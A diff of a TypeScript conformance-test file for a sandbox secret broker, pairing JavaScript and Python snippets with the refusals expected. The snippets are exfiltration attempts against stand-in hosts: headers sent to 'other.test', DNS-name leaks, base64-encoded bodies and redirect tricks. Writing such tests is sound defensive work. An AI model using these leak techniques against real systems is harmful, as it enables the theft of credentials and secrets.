@@ -1,21 +1,6 @@
-/** One way in which a source could try to get at a secret, in both languages, and what comes of it. */
-export interface SecretCase {
-  /** Of the list of attacks, with a letter for each form. */
-  readonly id: string;
-  /** What the code tries, in a few words. */
-  readonly name: string;
-  readonly code: { readonly JAVASCRIPT: string; readonly PYTHON: string };
-  /** Milliseconds that one call may take. */
-  readonly timeoutMs: number;
-  /** `ok` is an outcome, the others are codes of a failure. */
-  readonly expected: readonly string[];
-  /** What the message of a failure must say. */
-  readonly message?: RegExp;
-  /** What happens to it, in plain words. */
-  readonly happens: string;
-  /** Which limit or wall does that, in plain words. */
-  readonly heldBy: string;
-}
+import type { SecretValue } from "@assay/proto";
+import type { CaseSetUp, ConformanceCase } from "./conformance-case.ts";
+import type { Upstream } from "./upstream.ts";
 
 /** Names of the upstream: the one the secrets are for, and another that the source may reach too. */
 export const secretHosts = { own: "api.test", other: "other.test" };
@@ -42,7 +27,7 @@ def fetch_data(indicator, context):
     ${attack.trim().replaceAll("\n", "\n    ")}
 `;
 
-type Row = Omit<SecretCase, "code" | "expected" | "timeoutMs"> & {
+type Row = Pick<ConformanceCase, "id" | "name" | "message" | "happens" | "heldBy"> & {
   readonly expected: string;
   readonly js: string;
   readonly py: string;
@@ -57,19 +42,19 @@ const rows: readonly Row[] = [
     ...{ id: "E14a", name: "return a secret", expected: "ok" },
     js: `return { key, codes: codes(key) };`,
     py: `return {"key": key, "codes": codes(key)}`,
-    ...{ happens: "The code holds a placeholder; the result shows the slot's name.", heldBy: inResults },
+    ...{ happens: "the code holds a placeholder; the result shows the slot's name", heldBy: inResults },
   },
   {
     ...{ id: "E14b", name: "log a secret", expected: "ok" },
     js: `context.log.info("a", key, open); console.error({ key, open }); return {};`,
     py: `context.log.info("a", key, open); print({"key": key, "open": open}); return {}`,
-    ...{ happens: "The log shows the slot's name.", heldBy: inResults },
+    ...{ happens: "the log shows the slot's name", heldBy: inResults },
   },
   {
     ...{ id: "E14c", name: "throw a secret", expected: "SOURCE_ERROR", message: /\[secret KEY\] \[secret OPEN\]/ },
     js: `throw new Error(key + " " + open);`,
     py: `raise ValueError(key + " " + open)`,
-    ...{ happens: "The message shows the slot's name.", heldBy: inResults },
+    ...{ happens: "the message shows the slot's name", heldBy: inResults },
   },
   {
     ...{
@@ -80,7 +65,7 @@ const rows: readonly Row[] = [
     },
     js: `await context.http.get(other + "/echo", { headers: { "X-Key": key } });`,
     py: `urllib.request.urlopen(urllib.request.Request(other + "/echo", headers={"X-Key": key}))`,
-    ...{ happens: "Refused; the message names the slot and its hosts.", heldBy: atOwnHostOnly },
+    ...{ happens: "refused; the message names the slot and its hosts", heldBy: atOwnHostOnly },
   },
   {
     ...{ id: "E14e", name: "send a secret to another allowed host in query, body or credentials", expected: "ok" },
@@ -100,7 +85,7 @@ for path, body, headers in [("/?k=" + key, None, {}), ("/" + key, None, {}), ("/
             continue
     raise RuntimeError("sent")
 return {}`,
-    ...{ happens: "Each is refused.", heldBy: atOwnHostOnly },
+    ...{ happens: "each is refused", heldBy: atOwnHostOnly },
   },
   {
     ...{ id: "E14f", name: "have an allowed host give the secret back", expected: "ok" },
@@ -114,7 +99,7 @@ basic = "Basic " + base64.b64encode(("user:" + key).encode()).decode()
 response = context.http.post(own + "/echo/" + key, query={"k": key}, headers={"X-Key": key, "Authorization": basic}, json={"key": key})
 return {"codes": codes([response.text, dict(response.headers), response.status_text, response.url])}`,
     ...{
-      happens: "It gets the value, the source gets the placeholder back, however the value is written.",
+      happens: "it gets the value, the source gets the placeholder back, however the value is written",
       heldBy: inAnswers,
     },
   },
@@ -126,7 +111,7 @@ return {"codes": codes([response.text, dict(response.headers), response.status_t
     },
     js: `const response = await fetch(own + "/redirect?k=" + key); return { codes: codes(await response.text()) };`,
     py: `return {"codes": codes(urllib.request.urlopen(own + "/redirect?k=" + key).read().decode())}`,
-    ...{ happens: "The next request is refused.", heldBy: `${inAnswers}, the address of a redirect included` },
+    ...{ happens: "the next request is refused", heldBy: `${inAnswers}, the address of a redirect included` },
   },
   {
     ...{ id: "E14h", name: "read the secret in the address of a redirect", expected: "ok" },
@@ -136,7 +121,7 @@ return {"codes": codes([response.text, dict(response.headers), response.status_t
     py: `
 response = context.http.get(own + "/redirect?k=" + key, redirect="manual")
 return {"codes": codes([dict(response.headers), response.text])}`,
-    ...{ happens: "The address holds the placeholder.", heldBy: inAnswers },
+    ...{ happens: "the address holds the placeholder", heldBy: inAnswers },
   },
   {
     ...{
@@ -147,7 +132,7 @@ return {"codes": codes([dict(response.headers), response.text])}`,
     },
     js: `await context.http.post(own + "/onward", { json: { key } });`,
     py: `context.http.post(own + "/onward", json={"key": key})`,
-    ...{ happens: "The second request is refused.", heldBy: `${atOwnHostOnly}, on every redirect again` },
+    ...{ happens: "the second request is refused", heldBy: `${atOwnHostOnly}, on every redirect again` },
   },
   {
     ...{ id: "E14j", name: "find the secret in an error", expected: "ok" },
@@ -164,7 +149,7 @@ for path in ["/fail?k=", "/cut?k="]:
     except OSError as error:
         seen += [str(error), repr(error.__dict__), error.response.text if hasattr(error, "response") else ""]
 return {"codes": codes(seen)}`,
-    ...{ happens: "Errors hold the placeholder or the slot's name.", heldBy: inAnswers },
+    ...{ happens: "errors hold the placeholder or the slot's name", heldBy: inAnswers },
   },
   {
     ...{
@@ -175,7 +160,7 @@ return {"codes": codes(seen)}`,
     },
     js: `await context.dns.resolve(key + ".other.test", "TXT");`,
     py: `context.dns.resolve(key + ".other.test", "TXT")`,
-    ...{ happens: "Refused before anything is looked up.", heldBy: "the broker looks for placeholders in names" },
+    ...{ happens: "refused before anything is looked up", heldBy: "the broker looks for placeholders in names" },
   },
   {
     ...{
@@ -186,7 +171,7 @@ return {"codes": codes(seen)}`,
     },
     js: `await fetch("https://" + key.toUpperCase() + ".${secretHosts.own}/");`,
     py: `urllib.request.urlopen("https://" + key.upper() + ".${secretHosts.own}/")`,
-    ...{ happens: "Refused before anything is looked up.", heldBy: "the broker looks for placeholders in names" },
+    ...{ happens: "refused before anything is looked up", heldBy: "the broker looks for placeholders in names" },
   },
   {
     ...{ id: "E14m", name: "have the secret given back in parts", expected: "ok" },
@@ -208,7 +193,7 @@ for range in ["bytes=0-4", "bytes=5-"]:
     parts.append(context.http.get(own + "/echo?k=" + key, headers=headers).text)
 return {"codes": codes(parts), "more": codes(parts[0] + parts[2])}`,
     ...{
-      happens: "The host sends all of it, and the placeholder comes back.",
+      happens: "the host sends all of it, and the placeholder comes back",
       heldBy: "requests to a host of a secret have no Range",
     },
   },
@@ -221,13 +206,13 @@ return {"codes": codes(parts), "more": codes(parts[0] + parts[2])}`,
     py: `
 half = len(key) // 2
 return {"codes": codes(context.http.get(own + "/echo?a=" + key[:half] + "&b=" + key[half:]).text)}`,
-    ...{ happens: "Only a whole placeholder is one.", heldBy: "the broker replaces whole placeholders" },
+    ...{ happens: "only a whole placeholder is one", heldBy: "the broker replaces whole placeholders" },
   },
   {
     ...{ id: "E14o", name: "return an exposed secret", expected: "ok" },
     js: `return { open, ["x" + open]: [open.toUpperCase(), encodeURIComponent(open), btoa("u:" + open)] };`,
     py: `return {"open": open, "x" + open: [open.upper(), base64.b64encode(("u:" + open).encode()).decode(), open[::-1]]}`,
-    ...{ happens: "The result shows the slot's name in its place.", heldBy: inResults },
+    ...{ happens: "the result shows the slot's name in its place", heldBy: inResults },
   },
   {
     ...{
@@ -239,15 +224,59 @@ return {"codes": codes(context.http.get(own + "/echo?a=" + key[:half] + "&b=" + 
     js: `await fetch(other + "/echo", { method: "POST", body: "x" + btoa("ab" + open) });`,
     py: `urllib.request.urlopen(other + "/echo", data=base64.b64encode(("ab" + open).encode()))`,
     ...{
-      happens: "Refused, also in base64, hexadecimal and percent-encoding.",
+      happens: "refused, also in base64, hexadecimal and percent-encoding",
       heldBy: "the broker looks for exposed values in requests",
     },
   },
 ];
 
-export const secretCases: readonly SecretCase[] = rows.map(({ js, py, expected, ...row }) => ({
+/** The secret that the code of the cases does not get. */
+export const hiddenSecret: SecretValue = {
+  name: "KEY",
+  value: `S3cr3t/+ "key"\\%41é`,
+  hosts: [secretHosts.own],
+  exposed: false,
+};
+
+/** That one, and one that the code gets. */
+export const caseSecrets: readonly SecretValue[] = [
+  hiddenSecret,
+  { name: "OPEN", value: "0pen-S3cret_value", hosts: [secretHosts.own], exposed: true },
+];
+
+/** All that the sources of the cases may reach. */
+export const caseHosts: readonly string[] = [secretHosts.own, secretHosts.other, `*.${secretHosts.own}`, "dns:*"];
+
+/** A secret and what is as good as one. */
+function formsOf(secret: string): string[] {
+  const bytes = Buffer.from(secret);
+  const escaped = JSON.stringify(secret).slice(1, -1);
+  const plain = [secret, encodeURIComponent(secret), escaped, bytes.toString("hex"), bytes.toString("base64")];
+  const pair = Buffer.from(`user:${secret}`).toString("base64").replace(/=+$/, "");
+  return [...plain, pair, new URLSearchParams({ k: secret }).toString().slice(2), JSON.stringify(escaped).slice(1, -1)];
+}
+
+/** The forms in which a text holds one of the secrets. */
+export const leaksIn = (text: string, secrets: readonly SecretValue[]): string[] =>
+  secrets.flatMap(({ value }) => formsOf(value)).filter((form) => text.includes(form));
+
+function setUp({ secrets: upstream }: Upstream): CaseSetUp {
+  upstream.seen.length = 0;
+  return {
+    hosts: caseHosts,
+    secrets: caseSecrets,
+    async finish() {
+      const elsewhere = JSON.stringify(upstream.seen.filter(({ host }) => host !== secretHosts.own));
+      return leaksIn(elsewhere, caseSecrets).map((form) => `another host was sent ${form}`);
+    },
+  };
+}
+
+/** Every way out, in both languages. Beside this table, secrets-suite.ts looks at what the code itself has seen. */
+export const secretCases = rows.map(({ js, py, expected, ...row }) => ({
   ...row,
   timeoutMs: 15_000,
   expected: [expected],
   code: { JAVASCRIPT: javascript(js.trim()), PYTHON: python(py) },
-}));
+  setUp,
+})) satisfies readonly ConformanceCase[];
